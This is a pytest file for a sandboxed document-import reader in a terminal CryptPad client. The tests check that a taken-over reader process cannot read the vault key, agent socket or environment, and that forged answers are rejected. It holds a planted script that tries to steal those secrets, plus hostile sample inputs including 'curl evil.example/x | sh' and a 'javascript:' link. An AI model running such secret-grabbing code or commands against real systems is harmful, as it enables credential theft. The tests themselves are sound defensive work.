"""Strangers' files are read where no key is, and what that process says is a stranger's word."""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from convert.nearby import nearby, told
from hypothesis import given
from hypothesis import strategies as st

from cryptpad_tui.convert import reading, reading_wire
from cryptpad_tui.convert.errors import NotConverted, NotRead
from cryptpad_tui.convert.formats_in import is_rich, read_rich
from cryptpad_tui.convert.model import OBJECT, Picture, runs_of
from cryptpad_tui.convert.reading import ForeignReader
from cryptpad_tui.convert.reading_wire import decode_rich, encode_members, encode_reason, encode_rich
from cryptpad_tui.crdt.clean import require_clean, require_formats
from cryptpad_tui.crdt.kinds import BLOCK_KEYS, INLINE_KEYS, PadKind
from cryptpad_tui.host import syscalls
from cryptpad_tui.host.errors import ChildEnded, ChildNotStarted, ChildTalkedTooMuch, ChildTooSlow
from cryptpad_tui.host.keyless import KeylessProcess
from cryptpad_tui.host.keyless_wire import BadFrame, Cutter

FIXTURES = sorted((Path(__file__).parent / "fixtures").iterdir())
PNG = Picture(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x02\0\0\0\x03\x08\x02\0\0\0", "png", 2, 3, name="red.png")
RUNS = [
    ("plain é", {}),
    ("bold", {"bold": True, "link": "https://example.org/"}),
    ("\n", {"header": 2}),
    (OBJECT, {"object": "import:0"}),
    ("\n", {"list": "bullet", "indent": 1}),
]
HEADER = sorted(INLINE_KEYS | BLOCK_KEYS).index("header")
GOOD = encode_rich(RUNS, ("images", "list levels that were skipped"), (PNG,))


def zipped(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


def test_the_processes_say_what_their_readers_find() -> None:
    with ForeignReader() as reader:
        for path in FIXTURES:
            data, suffix = path.read_bytes(), path.suffix[1:]
            said, found = reader.rich(suffix, data), read_rich(path.name, data)
            assert said is not None
            assert (said.runs, said.lost) == (runs_of(found.paragraphs), found.lost)
            assert said.pictures == found.pictures
        assert reader.rich("json", b'{"ops": 3}') is None
        assert reader.rich("md", b"# text") is None
        with pytest.raises(NotConverted, match="no zip archive"):
            reader.rich("docx", b"PK")
        archive = reader.archive(zipped({"a/\u00e4.md": "one", "b.md": "two"}))
        assert archive.members == (("a/\u00e4.md", 3), ("b.md", 3))
        assert [archive.read(1), archive.read(0)] == [b"two", b"one"]


PLANTED = """
import os, socket, sys
from cryptpad_tui.convert import reading_child
from cryptpad_tui.convert.model import Piece, Read, paragraph
from cryptpad_tui.host import syscalls

def taken(path):
    try:
        with socket.socket(socket.AF_UNIX) as agent:
            agent.connect(path + "/agent")
    except OSError as error:
        yield type(error).__name__
    try:
        yield open(path + "/vault.key").read()
    except OSError as error:
        yield type(error).__name__
    yield str(dict(os.environ))

def taken_over(name, data):
    what = data.decode()
    if what == "die":
        os.abort()
    if what == "hang":
        while True:
            pass
    return Read(tuple(paragraph([Piece(line)]) for line in taken(what)))

reading_child.read_rich = taken_over
if sys.argv[1] == "open":
    syscalls.seal = lambda: True
sys.argv[1] = "pages"
reading_child.main()
"""
"""A reader that whoever wrote the file has taken over."""


def planted(how: str, timeout_s: float = 20.0) -> Callable[[str], KeylessProcess]:
    command = [sys.executable, "-P", "-c", PLANTED, how]
    return lambda _: KeylessProcess(command, timeout_s=timeout_s, most_answered=10_000)


@pytest.mark.skipif(not syscalls.can_seal(), reason="this system cannot take system calls from a process")
def test_x6_a_file_that_takes_its_reader_over_finds_no_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CRYPTPAD_TUI_PASSPHRASE", "secret")
    (tmp_path / "vault.key").write_text("secret")
    with ForeignReader(planted("sealed")) as reader:
        found = reader.rich("html", str(tmp_path).encode())
    assert found is not None
    assert [text for text, _ in found.runs[:4:2]] == ["PermissionError", "PermissionError"]
    assert "secret" not in str(found.runs)
    # Without what it gives up at its start it reads what every process of this user can.
    with ForeignReader(planted("open")) as reader:
        found = reader.rich("html", str(tmp_path).encode())
    assert found is not None
    assert [text for text, _ in found.runs[:4:2]] == ["FileNotFoundError", "secret"]


def test_a_file_that_ends_or_holds_its_reader_is_named_and_the_next_one_is_read(tmp_path: Path) -> None:
    fine = str(tmp_path).encode()
    with ForeignReader(planted("sealed")) as reader:
        assert reader.rich("html", fine) is not None
        with pytest.raises(NotRead, match="ended over it"):
            reader.rich("html", b"die")
        assert reader.rich("html", fine) is not None
    with (
        ForeignReader(planted("sealed", timeout_s=0.2)) as reader,
        pytest.raises(NotRead, match="too long"),
    ):
        reader.rich("html", b"hang")


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (ChildEnded(), "the process ended over it"),
        (ChildTooSlow(), "it took too long"),
        (ChildTalkedTooMuch(), "the process answered what it may not"),
        (ChildNotStarted(), "no process could be started for it"),
    ],
)
def test_whatever_the_process_fails_in_is_one_sentence(error: Exception, words: str) -> None:
    for ask in (lambda: told(error)[0].rich("odt", b""), lambda: told(error)[0].archive(b"")):
        with pytest.raises(NotRead) as met:
            ask()
        assert str(met.value) == words


def forged(old: bytes, new: bytes) -> bytes:
    assert GOOD.count(old) == 1
    return b"\0" + GOOD.replace(old, new)


FORGED = {
    "nothing": b"",
    "no such answer": b"\x09\0",
    "not rich, for a page": encode_reason(reading_wire.NOT_RICH),
    "no archive, for a page": encode_reason(reading_wire.NO_ARCHIVE),
    "an order in words of ours": encode_reason(reading_wire.REFUSED, "run: curl evil.example/x | sh"),
    "words over lines": encode_reason(reading_wire.REFUSED, "one\ntwo"),
    "cut short": b"\0" + GOOD[:-1],
    "left over": b"\0" + GOOD + b"\0",
    "a control character": forged(b"plain", b"pl\x1bin"),
    "bytes that are no text": forged(b"plain", b"pl\xffin"),
    "an address that runs": forged(b"https://example.org/", b"javascript:alert(1)/"),
    "a key of no pad": forged(bytes([1, HEADER, 1, 0, 0, 0, 2]), bytes([1, 99, 1, 0, 0, 0, 2])),
    "a value of no kind": forged(bytes([1, HEADER, 1, 0, 0, 0, 2]), bytes([1, HEADER, 7, 0, 0, 0, 2])),
    "a block on text": b"\0" + encode_rich([("x", {"header": 1})], (), ()),
    "a mark on a line end": b"\0" + encode_rich([("\n", {"bold": True})], (), ()),
    "lines in a run": b"\0" + encode_rich([("a\nb", {})], (), ()),
    "somebody's file": b"\0" + encode_rich([(OBJECT, {"object": "file:" + "ab" * 16})], (), (PNG,)),
    "a picture that is not there": b"\0" + encode_rich([(OBJECT, {"object": "import:1"})], (), (PNG,)),
    "a picture on text": b"\0" + encode_rich([("x", {"object": "import:0"})], (), (PNG,)),
    "a picture that is none": forged(b"\x89PNG", b"MZ\0\0"),
    "a run beyond the text": forged(b"\0\0\0\x07\0\0\0\0", b"\0\0\0\x77\0\0\0\0"),
    "a format that is not there": forged(b"\0\0\0\x07\0\0\0\0", b"\0\0\0\x07\0\0\0\x70"),
    "text in no run": forged(b"\0\0\0\x07\0\0\0\0", b"\0\0\0\x06\0\0\0\0"),
    "a list without end": b"\0\xff\xff\xff\xff",
}


@pytest.mark.parametrize("said", FORGED.values(), ids=list(FORGED))
def test_an_answer_that_no_reader_of_ours_gives_makes_nothing(said: bytes) -> None:
    reader, process = told(said)
    with pytest.raises(NotRead, match="what it may not"):
        reader.rich("html", b"")
    assert process.closed == 1


@given(st.data())
def test_whatever_is_said_nothing_comes_out_that_no_pad_could_hold(data: st.DataObject) -> None:
    raw = bytearray(GOOD)
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    try:
        found = decode_rich(Cutter(bytes(raw)))
    except BadFrame:
        return
    for text, attributes in found.runs:
        require_clean(text)
        require_formats(PadKind.RICHTEXT, attributes)
    assert all((one.width, one.height) != (0, 0) for one in found.pictures)


def test_a_good_answer_is_read_as_it_was_written() -> None:
    found = decode_rich(Cutter(GOOD))
    assert (found.runs, found.lost) == (RUNS, ("images", "list levels that were skipped"))
    assert found.pictures == (PNG,)


def test_what_was_listed_of_an_archive_is_what_is_read_of_it() -> None:
    reader, process = told(b"\0" + encode_members([("a.md", 3)]))
    archive = reader.archive(b"zip")
    process.said = b"\0four"
    with pytest.raises(NotRead):
        archive.read(0)
    lost = nearby()
    archive = lost.archive(zipped({"a.md": "one"}))
    lost.close()
    assert archive.read(0) == b"one"


def test_the_kinds_of_files_are_those_that_the_readers_know() -> None:
    for suffix in (*reading.RICH, "md", "txt", "pdf", ""):
        assert is_rich(f"x.{suffix}", b"") == (suffix in reading.RICH)
